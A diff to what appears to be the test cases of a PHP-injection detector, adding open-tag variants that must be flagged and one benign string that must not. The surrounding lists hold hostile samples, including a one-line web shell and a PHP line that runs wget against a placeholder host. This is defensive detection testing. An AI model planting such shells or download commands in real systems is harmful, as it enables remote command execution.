@@ -10,6 +10,8 @@ MUST_FIRE = [
     "<?php system($_GET['c']); ?>",
     "<?= `id` ?>",
     "<? exec('wget http://x/a') ?>",
+    '<? php echo "test"',
+    "<?\nphp echo 1",
     "<?xml :echo 1;",
     "[php]echo 1;[/php]",
     "base64_decode('ZWNobyAxOw==')",
@@ -45,6 +47,7 @@ MUST_FIRE = [
 ]
 
 MUST_NOT_FIRE = [
+    "Rate: <? 5% (php devs ask)",
     "see file (attached)",
     "include (optional) notes",
     "system (SAP) maintenance tonight",
